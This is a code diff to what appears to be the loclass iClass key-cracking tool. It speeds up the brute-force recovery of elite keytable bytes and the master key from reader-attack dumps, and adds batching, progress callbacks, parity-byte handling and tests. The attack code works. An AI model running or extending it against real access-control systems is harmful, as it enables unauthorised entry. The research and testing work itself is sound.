@@ -46,6 +46,8 @@
 #include "elite_crack.h"
 #include "fileutils.h"
 #include "des.h"
+#include "crack_stats.h"
+#include "loclass_config.h"
 
 /**
  * @brief Permutes a key from standard NIST format to Iclass specific format
@@ -159,6 +161,14 @@ void hash1(uint8_t csn[] , uint8_t k[])
     for(i = 7; i >=0; i--)
         k[i] = k[i] & 0x7F;
 }
+bool hash1ParityOnly(const uint8_t key_index[8])
+{
+	int i;
+	for(i = 0 ; i < 7 ; i++)
+		if(key_index[i] == key_index[7])
+			return false;
+	return true;
+}
 /**
 Definition 14. Define the rotate key function rk : (F 82 ) 8 × N → (F 82 ) 8 as
 rk(x [0] . . . x [7] , 0) = x [0] . . . x [7]
@@ -178,11 +188,9 @@ void rk(uint8_t *key, uint8_t n, uint8_t *outp_key)
     return;
 }
 
-static des_context ctx_enc = {DES_ENCRYPT,{0}};
-static des_context ctx_dec = {DES_DECRYPT,{0}};
-
 void desdecrypt_iclass(uint8_t *iclass_key, uint8_t *input, uint8_t *output)
 {
+    des_context ctx_dec = {DES_DECRYPT,{0}};
     uint8_t key_std_format[8] = {0};
     permutekey_rev(iclass_key, key_std_format);
     des_setkey_dec( &ctx_dec, key_std_format);
@@ -190,6 +198,7 @@ void desdecrypt_iclass(uint8_t *iclass_key, uint8_t *input, uint8_t *output)
 }
 void desencrypt_iclass(uint8_t *iclass_key, uint8_t *input, uint8_t *output)
 {
+    des_context ctx_enc = {DES_ENCRYPT,{0}};
     uint8_t key_std_format[8] = {0};
     permutekey_rev(iclass_key, key_std_format);
     des_setkey_enc( &ctx_enc, key_std_format);
@@ -263,6 +272,17 @@ void hash2(uint8_t *key64, uint8_t *outp_keytable)
     }
 }
 
+void diversifyKeyElite(const uint8_t keytable[128], uint8_t csn[8], uint8_t div_key[8])
+{
+	uint8_t key_index[8], key_sel[8], key_sel_p[8];
+	int i;
+	hash1(csn, key_index);
+	for(i = 0 ; i < 8 ; i++)
+		key_sel[i] = keytable[key_index[i]];
+	permutekey_rev(key_sel, key_sel_p);
+	diversifyKey(csn, key_sel_p, div_key);
+}
+
 /**
  * @brief Reads data from the iclass-reader-attack dump file.
  * @param dump, data from a iclass reader attack dump.  The format of the dumpdata is expected to be as follows:
@@ -284,7 +304,7 @@ int _readFromDump(uint8_t dump[], dumpdata* item, uint8_t i)
 	size_t itemsize = sizeof(dumpdata);
 	//dumpdata item =  {0};
 	memcpy(item,dump+i*itemsize, itemsize);
-	if(true)
+	if(getLogLevel() >= LOG_LEVEL_DEBUG)
 	{
 		printvar("csn", item->csn,8);
 		printvar("cc_nr", item->cc_nr,12);
@@ -294,6 +314,162 @@ int _readFromDump(uint8_t dump[], dumpdata* item, uint8_t i)
 }
 
 static uint32_t startvalue = 0;
+
+/**
+  Progress reporting. The crack loop only tests a counter; everything else (the clock,
+  the callback) happens every 0x10000 candidates, or when an item is done.
+**/
+typedef struct {
+	crack_progress_fn fn;
+	void *ctx;
+	crack_progress p;
+	struct timespec start;
+	bool in_dump;
+	bool aborted;
+} progress_state;
+
+static __thread progress_state progress;
+
+void setCrackProgress(crack_progress_fn fn, void *ctx)
+{
+	progress.fn = fn;
+	progress.ctx = ctx;
+}
+
+bool crackAborted()
+{
+	return progress.aborted;
+}
+
+static void progressStart(int items)
+{
+	memset(&progress.p, 0, sizeof(crack_progress));
+	progress.p.item = -1;
+	progress.p.items = items;
+	progress.aborted = false;
+	clock_gettime(CLOCK_MONOTONIC, &progress.start);
+}
+
+/*
+ * Fills in the time based fields and calls the callback.
+ * Returns nonzero if the callback wants to abort.
+ */
+static int progressReport(uint64_t candidates, bool done)
+{
+	struct timespec now;
+	crack_progress *p = &progress.p;
+	clock_gettime(CLOCK_MONOTONIC, &now);
+	p->candidates_all += candidates - p->candidates;
+	p->candidates = candidates;
+	p->done = done;
+	p->seconds = (now.tv_sec - progress.start.tv_sec) + (now.tv_nsec - progress.start.tv_nsec) / 1e9;
+	p->rate = p->seconds > 0 ? p->candidates_all / p->seconds : 0;
+	p->eta = (p->rate > 0 && p->total > p->candidates) ? (p->total - p->candidates) / p->rate : 0;
+	if(progress.fn && progress.fn(p, progress.ctx))
+		progress.aborted = true;
+	return progress.aborted;
+}
+/*
+ * The crack loop runs candidates in batches of CRACK_BATCH, one stage at a time over
+ * the whole batch, so each stage is a tight loop with its tables warm. The buffers
+ * add up to about 9kB and stay in L1. key_sel is stored byte-major, which makes
+ * gathering and permuting plain loops over the batch that the compiler vectorizes.
+ */
+#define CRACK_BATCH 256
+
+typedef struct {
+	// Set up once per item
+	const uint8_t *csn;
+	uint8_t fixed[8];			// key_sel values that are not bruteforced
+	int8_t brute_byte[8];		// byte of the candidate number used for key_sel[i], or -1
+	opt_mac_spec mac_spec;
+	uint32_t mac;
+	// Stage buffers
+	uint8_t key_sel[8][CRACK_BATCH];
+	uint8_t key_sel_p[CRACK_BATCH][8];
+	uint8_t crypted_csn[CRACK_BATCH][8];
+	uint8_t div_key[CRACK_BATCH][8];
+	uint32_t macs[CRACK_BATCH];
+} crack_pipeline;
+
+static void crackPipelineInit(crack_pipeline *p, const uint8_t csn[8], const uint8_t cc_nr[12], const uint8_t mac[4],
+							  const uint8_t key_index[8], const uint16_t keytable[],
+							  const uint8_t bytes_to_recover[], int numbytes_to_recover)
+{
+	int i, b;
+	p->csn = csn;
+	for(i = 0 ; i < 8 ; i++)
+	{
+		p->fixed[i] = keytable[key_index[i]] & 0xFF;
+		p->brute_byte[i] = -1;
+		for(b = 0 ; b < numbytes_to_recover ; b++)
+			if(bytes_to_recover[b] == key_index[i])
+				p->brute_byte[i] = b;
+	}
+	opt_macSpecialize(cc_nr, &p->mac_spec);
+	memcpy(&p->mac, mac, 4);
+}
+
+/*
+ * Runs the candidates first .. first+count-1 through the pipeline.
+ * Returns the index of the first one that gives the wanted MAC, or -1.
+ */
+static int crackBatch(crack_pipeline *p, des_context *ctx, uint32_t first, int count)
+{
+	int i, n;
+	CRACK_STATS_DECLARE;
+
+	CRACK_STATS_START();
+	CRACK_STATS_CANDIDATES(count);
+	for(i = 0 ; i < 8 ; i++)
+	{
+		uint8_t *dst = p->key_sel[i];
+		if(p->brute_byte[i] < 0)
+			memset(dst, p->fixed[i], count);
+		else
+		{
+			int shift = 8 * p->brute_byte[i];
+			for(n = 0 ; n < count ; n++)
+				dst[n] = (first + n) >> shift;
+		}
+	}
+	CRACK_STATS_STAGE(CRACK_STAGE_GATHER);
+
+	//permutekey_rev, over the batch
+	for(i = 0 ; i < 8 ; i++)
+		for(n = 0 ; n < count ; n++)
+			p->key_sel_p[n][7-i] =	(((p->key_sel[0][n] >> (7-i)) & 1) << 7) |
+									(((p->key_sel[1][n] >> (7-i)) & 1) << 6) |
+									(((p->key_sel[2][n] >> (7-i)) & 1) << 5) |
+									(((p->key_sel[3][n] >> (7-i)) & 1) << 4) |
+									(((p->key_sel[4][n] >> (7-i)) & 1) << 3) |
+									(((p->key_sel[5][n] >> (7-i)) & 1) << 2) |
+									(((p->key_sel[6][n] >> (7-i)) & 1) << 1) |
+									(((p->key_sel[7][n] >> (7-i)) & 1) << 0);
+	CRACK_STATS_STAGE(CRACK_STAGE_PERMUTE);
+
+	//Diversify, this is diversifyKey() spelled out. One context is reused, so
+	//setkey and encrypt are timed per candidate
+	for(n = 0 ; n < count ; n++)
+	{
+		des_setkey_enc(ctx, p->key_sel_p[n]);
+		CRACK_STATS_STAGE(CRACK_STAGE_SETKEY);
+		des_crypt_ecb(ctx, (uint8_t*) p->csn, p->crypted_csn[n]);
+		CRACK_STATS_STAGE(CRACK_STAGE_ENCRYPT);
+	}
+	for(n = 0 ; n < count ; n++)
+		hash0(x_bytes_to_num(p->crypted_csn[n], 8), p->div_key[n]);
+	CRACK_STATS_STAGE(CRACK_STAGE_HASH0);
+
+	for(n = 0 ; n < count ; n++)
+		opt_doReaderMAC_spec(&p->mac_spec, p->div_key[n], (uint8_t*) &p->macs[n]);
+	for(n = 0 ; n < count && p->macs[n] != p->mac ; n++)
+		;
+	CRACK_STATS_STAGE(CRACK_STAGE_MAC);
+
+	return n < count ? n : -1;
+}
+
 /**
  * @brief Performs brute force attack against a dump-data item, containing csn, cc_nr and mac.
  *This method calculates the hash1 for the CSN, and determines what bytes need to be bruteforced
@@ -308,12 +484,12 @@ static uint32_t startvalue = 0;
 int bruteforceItem(dumpdata item, uint16_t keytable[])
 {
 	int errors = 0;
-	uint8_t key_sel_p[8] = { 0 };
-	uint8_t div_key[8] = {0};
 	int found = false;
-	uint8_t key_sel[8] = {0};
-	uint8_t calculated_MAC[4] = { 0 };
+	des_context ctx = {DES_ENCRYPT,{0}};
 
+	CRACK_STATS_ITEM_BEGIN();
+	if(!progress.in_dump)
+		progressStart(0);
 	//Get the key index (hash1)
 	uint8_t key_index[8] = {0};
 	hash1(item.csn, key_index);
@@ -333,16 +509,24 @@ int bruteforceItem(dumpdata item, uint16_t keytable[])
 	 **/
 	uint8_t bytes_to_recover[3] = {0};
 	uint8_t numbytes_to_recover = 0 ;
+	bool parity_only = hash1ParityOnly(key_index);
 	int i;
 	for(i =0 ; i < 8 ; i++)
 	{
 		if(keytable[key_index[i]] & (CRACKED | BEING_CRACKED)) continue;
+		if(i == 7 && parity_only)
+		{
+			// Only lands on DES parity bits, any value gives the same MAC. Leave it
+			// for an item that uses it elsewhere
+			keytable[key_index[7]] |= CRACK_DONTCARE;
+			break;
+		}
 		bytes_to_recover[numbytes_to_recover++] = key_index[i];
 		keytable[key_index[i]] |= BEING_CRACKED;
 
 		if(numbytes_to_recover > 3)
 		{
-			prnlog("The CSN requires > 3 byte bruteforce, not supported");
+			logmsg(LOG_LEVEL_ERROR, "The CSN requires > 3 byte bruteforce, not supported");
 			printvar("CSN", item.csn,8);
 			printvar("HASH1", key_index,8);
 
@@ -351,6 +535,7 @@ int bruteforceItem(dumpdata item, uint16_t keytable[])
 			keytable[bytes_to_recover[1]]  &= ~BEING_CRACKED;
 			keytable[bytes_to_recover[2]]  &= ~BEING_CRACKED;
 
+			CRACK_STATS_ITEM_END(numbytes_to_recover, false);
 			return 1;
 		}
 	}
@@ -369,49 +554,63 @@ int bruteforceItem(dumpdata item, uint16_t keytable[])
 
 	uint32_t endmask =  1 << 8*numbytes_to_recover;
 
+	progress.p.bytes = numbytes_to_recover;
+	progress.p.candidates = 0;
+	progress.p.total = endmask - (startvalue & (endmask - 1));
+
 	for(i =0 ; i < numbytes_to_recover && numbytes_to_recover > 1; i++)
-		prnlog("Bruteforcing byte %d", bytes_to_recover[i]);
+		logmsg(LOG_LEVEL_DEBUG, "Bruteforcing byte %d", bytes_to_recover[i]);
+
+	crack_pipeline pipeline;
+	crackPipelineInit(&pipeline, item.csn, item.cc_nr, item.mac, key_index, keytable,
+					  bytes_to_recover, numbytes_to_recover);
 
+	uint32_t last = brute;
 	while(!found && !(brute & endmask))
 	{
-
-		//Update the keytable with the brute-values
-		for(i =0 ; i < numbytes_to_recover; i++)
-		{
-			keytable[bytes_to_recover[i]] &= 0xFF00;
-			keytable[bytes_to_recover[i]] |= (brute >> (i*8) & 0xFF);
-		}
-
-		// Piece together the key
-		key_sel[0] = keytable[key_index[0]] & 0xFF;key_sel[1] = keytable[key_index[1]] & 0xFF;
-		key_sel[2] = keytable[key_index[2]] & 0xFF;key_sel[3] = keytable[key_index[3]] & 0xFF;
-		key_sel[4] = keytable[key_index[4]] & 0xFF;key_sel[5] = keytable[key_index[5]] & 0xFF;
-		key_sel[6] = keytable[key_index[6]] & 0xFF;key_sel[7] = keytable[key_index[7]] & 0xFF;
-
-		//Permute from iclass format to standard format
-		permutekey_rev(key_sel,key_sel_p);
-		//Diversify
-		diversifyKey(item.csn, key_sel_p, div_key);
-		//Calc mac
-		doReaderMAC(item.cc_nr, div_key,calculated_MAC);
-
-		if(memcmp(calculated_MAC, item.mac, 4) == 0)
+		//Batches end on a multiple of CRACK_BATCH, so progress lands on 0x10000 boundaries
+		uint32_t next = (brute | (CRACK_BATCH - 1)) + 1;
+		uint32_t limit = (brute | (endmask - 1)) + 1;
+		if(next > limit) next = limit;
+		int match = crackBatch(&pipeline, &ctx, brute, next - brute);
+		if(match >= 0)
 		{
-			for(i =0 ; i < numbytes_to_recover; i++)
-				prnlog("=> %d: 0x%02x", bytes_to_recover[i],0xFF & keytable[bytes_to_recover[i]]);
+			brute += match;
 			found = true;
 			break;
 		}
-		brute++;
-		if((brute & 0xFFFF) == 0)
+		last = next - 1;
+		brute = next;
+		if((brute & 0xFFFF) == 0 && progress.fn)
 		{
-			printf("%d",(brute >> 16) & 0xFF);
-			fflush(stdout);
+			if(progressReport(brute - startvalue, false))
+				break;
 		}
 	}
+
+	//Put the matching (or the last tried) candidate in the keytable
+	if(found) last = brute;
+	for(i =0 ; i < numbytes_to_recover && (found || brute != startvalue); i++)
+	{
+		keytable[bytes_to_recover[i]] &= 0xFF00;
+		keytable[bytes_to_recover[i]] |= (last >> (i*8) & 0xFF);
+	}
+	if(found)
+		for(i =0 ; i < numbytes_to_recover; i++)
+			prnlog("=> %d: 0x%02x", bytes_to_recover[i],0xFF & keytable[bytes_to_recover[i]]);
+	if(progress.fn)
+		progressReport(brute - startvalue + (found ? 1 : 0), true);
+	if(progress.aborted && !found)
+	{
+		logmsg(LOG_LEVEL_WARN, "Crack aborted");
+		for(i =0 ; i < numbytes_to_recover; i++)
+			keytable[bytes_to_recover[i]]  &= ~BEING_CRACKED;
+		CRACK_STATS_ITEM_END(numbytes_to_recover, false);
+		return 1;
+	}
 	if(! found)
 	{
-		prnlog("Failed to recover %d bytes using the following CSN",numbytes_to_recover);
+		logmsg(LOG_LEVEL_ERROR, "Failed to recover %d bytes using the following CSN",numbytes_to_recover);
 		printvar("CSN",item.csn,8);
 		errors++;
 		//Before we exit, reset the 'BEING_CRACKED' to zero
@@ -430,10 +629,65 @@ int bruteforceItem(dumpdata item, uint16_t keytable[])
 		}
 
 	}
+	CRACK_STATS_ITEM_END(numbytes_to_recover, found);
 	return errors;
 }
 
 
+/*
+ * A pipeline on made-up data, for timing: three bytes bruteforced like a real item.
+ * The first item of iclass_dump.bin, the values do not matter.
+ */
+static void crackPipelineInitDummy(crack_pipeline *p)
+{
+	static const uint8_t csn[8] = {0x00,0x0B,0x0F,0xFF,0xF7,0xFF,0x12,0xE0};
+	static const uint8_t key_index[8] = {0x01,0x01,0x00,0x00,0x45,0x01,0x45,0x45};
+	static const uint8_t mac[4] = {0};
+	static const uint8_t bytes_to_recover[3] = {0x00,0x01,0x45};
+	static const uint8_t cc_nr[12] = {0xFE,0xFF,0xFF,0xFF,0xFF,0xFF,0xFF,0xFF,0,0,0,0};
+	uint16_t keytable[128] = {0};
+
+	crackPipelineInit(p, csn, cc_nr, mac, key_index, keytable, bytes_to_recover, 3);
+}
+
+double calibrateCrackRate(double seconds)
+{
+	des_context ctx = {DES_ENCRYPT,{0}};
+	crack_pipeline pipeline;
+	struct timespec t1, t2;
+	uint64_t n = 0;
+	double elapsed = 0;
+
+	crackPipelineInitDummy(&pipeline);
+
+	clock_gettime(CLOCK_MONOTONIC, &t1);
+	while(elapsed < seconds)
+	{
+		// Same pipeline as bruteforceItem, checking the clock every batch
+		crackBatch(&pipeline, &ctx, n & 0xFFFFFF, CRACK_BATCH);
+		n += CRACK_BATCH;
+		clock_gettime(CLOCK_MONOTONIC, &t2);
+		elapsed = (t2.tv_sec - t1.tv_sec) + (t2.tv_nsec - t1.tv_nsec) / 1e9;
+	}
+	return elapsed > 0 ? n / elapsed : 0;
+}
+
+int crackCandidates(uint64_t candidates)
+{
+	des_context ctx = {DES_ENCRYPT,{0}};
+	crack_pipeline pipeline;
+	uint64_t n;
+	int matches = 0;
+
+	crackPipelineInitDummy(&pipeline);
+	for(n = 0 ; n < candidates ; n += CRACK_BATCH)
+	{
+		int count = (candidates - n) < CRACK_BATCH ? (int) (candidates - n) : CRACK_BATCH;
+		matches += crackBatch(&pipeline, &ctx, n & 0xFFFFFF, count) >= 0;
+	}
+	return matches;
+}
+
 /**
  * From dismantling iclass-paper:
  *	Assume that an adversary somehow learns the first 16 bytes of hash2(K_cus ), i.e., y [0] and z [0] .
@@ -492,13 +746,27 @@ int calculateMasterKey(uint8_t first16bytes[], uint64_t master_key[] )
 
 	if(memcmp(z_0,result,4) != 0)
 	{
-		prnlog("Failed to verify calculated master key (k_cus)! Something is wrong.");
+		logmsg(LOG_LEVEL_ERROR, "Failed to verify calculated master key (k_cus)! Something is wrong.");
 		return 1;
 	}else{
 		prnlog("Key verified ok!\n");
 	}
 	return 0;
 }
+
+int calculateMasterKeyFromKeytable(const uint16_t keytable[], uint64_t master_key[])
+{
+	uint8_t first16bytes[16];
+	int i;
+
+	for(i = 0 ; i < 16 ; i++)
+	{
+		if(!(keytable[i] & CRACKED))
+			return 1;
+		first16bytes[i] = keytable[i] & 0xFF;
+	}
+	return calculateMasterKey(first16bytes, master_key);
+}
 /**
  * @brief Same as bruteforcefile, but uses a an array of dumpdata instead
  * @param dump
@@ -515,15 +783,35 @@ int bruteforceDump(uint8_t dump[], size_t dumpsize, uint16_t keytable[])
 
 	dumpdata* attack = (dumpdata* ) malloc(itemsize);
 
-	for(i = 0 ; i * itemsize < dumpsize ; i++ )
+#ifdef LOCLASS_STATS
+	crack_stats stats;
+	resetCrackStats();
+#endif
+	progressStart(dumpsize / itemsize);
+	progress.in_dump = true;
+	for(i = 0 ; i * itemsize < dumpsize && !progress.aborted ; i++ )
 	{
 		memcpy(attack,dump+i*itemsize, itemsize);
+		progress.p.item = i;
 		errors += bruteforceItem(*attack, keytable);
+#ifdef LOCLASS_STATS
+		getCrackStats(&stats);
+		prnlog("[+] item %d: %d bytes, %llu candidates, %f seconds%s", i, stats.last_item.bytes,
+			   (unsigned long long) stats.last_item.candidates, stats.last_item.seconds,
+			   stats.last_item.cracked ? "" : ", FAILED");
+#endif
 	}
+	progress.in_dump = false;
 	free(attack);
+	if(progress.aborted)
+		return errors ? errors : 1;
 	clock_t t2 = clock();
 	float diff = (((float)t2 - (float)t1) / CLOCKS_PER_SEC );
 	prnlog("\nPerformed full crack in %f seconds",diff);
+#ifdef LOCLASS_STATS
+	getCrackStats(&stats);
+	printCrackStats(&stats);
+#endif
 
 	// Pick out the first 16 bytes of the keytable.
 	// The keytable is now in 16-bit ints, where the upper 8 bits
@@ -536,7 +824,8 @@ int bruteforceDump(uint8_t dump[], size_t dumpsize, uint16_t keytable[])
 		first16bytes[i] = keytable[i] & 0xFF;
 		if(!(keytable[i] & CRACKED))
 		{
-			prnlog("Error, we are missing byte %d, custom key calculation will fail...", i);
+			logmsg(LOG_LEVEL_ERROR, "Error, we are missing byte %d, custom key calculation will fail...%s", i,
+				   (keytable[i] & CRACK_DONTCARE) ? " (only seen on DES parity bits)" : "");
 		}
 	}
 	errors += calculateMasterKey(first16bytes, NULL);
@@ -553,7 +842,7 @@ int bruteforceFile(const char *filename, uint16_t keytable[])
 {
 	FILE *f = fopen(filename, "rb");
 	if(!f) {
-		prnlog("Failed to open file '%s'", filename);
+		logmsg(LOG_LEVEL_ERROR, "Failed to open file '%s'", filename);
 		return 1;
 	}
 
@@ -563,7 +852,7 @@ int bruteforceFile(const char *filename, uint16_t keytable[])
 
 	uint8_t *dump = malloc(fsize);
 	if(fread(dump, fsize, 1, f) <= 0) {
-		prnlog("Failed to read from file '%s'", filename);
+		logmsg(LOG_LEVEL_ERROR, "Failed to read from file '%s'", filename);
 		fclose(f);
 		return 1;
 	}
@@ -590,6 +879,8 @@ int bruteforceFileNoKeys(const char *filename)
 // TEST CODE BELOW
 // ----------------------------------------------------------------------------
 
+#ifndef LOCLASS_NO_TESTS
+
 int _testBruteforce()
 {
 	int errors = 0;
@@ -616,10 +907,104 @@ int _testBruteforce()
 		//save some time...
 		startvalue = 0x7B0000;
 		errors |= bruteforceFile("iclass_dump.bin",keytable);
+		startvalue = 0;
+
+		// With LOCLASS_STATS, every item of the dump must have been counted
+		crack_stats stats;
+		if(getCrackStats(&stats) == 0 && (stats.items != 126 || stats.candidates == 0))
+		{
+			logmsg(LOG_LEVEL_ERROR, "[+] FAILED: crack stats count %d items", (int) stats.items);
+			errors++;
+		}
+	}
+	return errors;
+}
+
+typedef struct {
+	int calls;
+	crack_progress last;
+} test_progress;
+
+static int _testProgressCallback(const crack_progress *progress, void *ctx)
+{
+	test_progress *t = (test_progress*) ctx;
+	t->calls++;
+	t->last = *progress;
+	return 1;
+}
+
+int _testProgress()
+{
+	int errors = 0;
+	prnlog("[+] Testing crack progress callback...");
+	// The first item in the dump needs a 3-byte bruteforce, abort it at the first report
+	dumpdata item;
+	uint16_t keytable[128] = {0};
+	test_progress t = {0};
+	if(loadFile("iclass_dump.bin", &item, sizeof(item)))
+		return 1;
+	startvalue = 0x7BFF00;
+	setCrackProgress(_testProgressCallback, &t);
+	int result = bruteforceItem(item, keytable);
+	setCrackProgress(NULL, NULL);
+	startvalue = 0;
+
+	int i, marked = 0;
+	for(i = 0 ; i < 128 ; i++)
+		marked += (keytable[i] & (CRACKED | BEING_CRACKED | CRACK_FAILED)) != 0;
+	// One report after 0x100 candidates, which aborts, and the final one
+	if(result != 1 || !crackAborted() || marked || t.calls != 2 || !t.last.done
+			|| t.last.candidates != 0x100 || t.last.bytes != 3 || t.last.total != 0x1000000 - 0x7BFF00)
+	{
+		logmsg(LOG_LEVEL_ERROR, "[+] FAILED: progress callback, %d calls, %d candidates", t.calls, (int) t.last.candidates);
+		errors++;
+	}else
+	{
+		prnlog("[+] Crack progress callback OK!");
 	}
 	return errors;
 }
 
+/**
+ * 0123456789abcdef has hash1 0040286c28517002, with 02 only in k[7]. With the other
+ * bytes known except 51, the item is a 1-byte search and 02 is left for later.
+ */
+int _testParityOnly()
+{
+	uint8_t k_cus[8] = {0x5B,0x7C,0x62,0xC4,0x91,0xC1,0x1B,0x39};
+	uint8_t table[128], key_index[8], key_sel[8], key_sel_p[8], div_key[8];
+	uint16_t keytable[128] = {0};
+	dumpdata item = {{0x01,0x23,0x45,0x67,0x89,0xab,0xcd,0xef},
+					 {0xFE,0xFF,0xFF,0xFF,0xFF,0xFF,0xFF,0xFF,0x12,0x34,0x56,0x78}, {0}};
+	int i;
+
+	prnlog("[+] Testing parity-only keytable bytes...");
+	hash2(k_cus, table);
+	hash1(item.csn, key_index);
+	for(i = 0 ; i < 8 ; i++)
+		key_sel[i] = table[key_index[i]];
+	permutekey_rev(key_sel, key_sel_p);
+	diversifyKey(item.csn, key_sel_p, div_key);
+	doReaderMAC(item.cc_nr, div_key, item.mac);
+
+	for(i = 0 ; i < 7 ; i++)
+		if(key_index[i] != 0x51)
+			keytable[key_index[i]] = table[key_index[i]] | CRACKED;
+	// A wrong value in the parity-only byte makes no difference
+	keytable[0x02] = table[0x02] ^ 0x5A;
+
+	if(!hash1ParityOnly(key_index) || bruteforceItem(item, keytable) != 0
+			|| keytable[0x51] != (table[0x51] | CRACKED)
+			|| (keytable[0x02] & (CRACKED | BEING_CRACKED)) || !(keytable[0x02] & CRACK_DONTCARE))
+	{
+		logmsg(LOG_LEVEL_ERROR, "[+] FAILED: parity-only k[7], keytable[51]=%04x keytable[02]=%04x",
+			   keytable[0x51], keytable[0x02]);
+		return 1;
+	}
+	prnlog("[+] Parity-only keytable bytes OK!");
+	return 0;
+}
+
 int _test_iclass_key_permutation()
 {
 	uint8_t testcase[8] = {0x6c,0x8d,0x44,0xf9,0x2a,0x2d,0x01,0xbf};
@@ -632,7 +1017,7 @@ int _test_iclass_key_permutation()
 
 	if(memcmp(testcase_output, testcase_output_correct,8) != 0)
 	{
-		prnlog("Error with iclass key permute!");
+		logmsg(LOG_LEVEL_ERROR, "Error with iclass key permute!");
 		printarr("testcase_output", testcase_output, 8);
 		printarr("testcase_output_correct", testcase_output_correct, 8);
 		return 1;
@@ -640,7 +1025,7 @@ int _test_iclass_key_permutation()
 	}
 	if(memcmp(testcase, testcase_output_rev, 8) != 0)
 	{
-		prnlog("Error with reverse iclass key permute");
+		logmsg(LOG_LEVEL_ERROR, "Error with reverse iclass key permute");
 		printarr("testcase", testcase, 8);
 		printarr("testcase_output_rev", testcase_output_rev, 8);
 		return 1;
@@ -657,7 +1042,7 @@ int _testHash1()
     uint8_t expected[8] = {0x7E,0x72,0x2F,0x40,0x2D,0x02,0x51,0x42};
     if(memcmp(k,expected,8) != 0)
     {
-        prnlog("Error with hash1!");
+        logmsg(LOG_LEVEL_ERROR, "Error with hash1!");
         printarr("calculated", k, 8);
         printarr("expected", expected, 8);
         return 1;
@@ -701,9 +1086,12 @@ int testElite()
     errors += _testHash1();
     prnlog("[+] Testing key diversification ...");
     errors +=_test_iclass_key_permutation();
+	errors += _testProgress();
+	errors += _testParityOnly();
 	errors += _testBruteforce();
 
 	return errors;
 
 }
 
+#endif // LOCLASS_NO_TESTS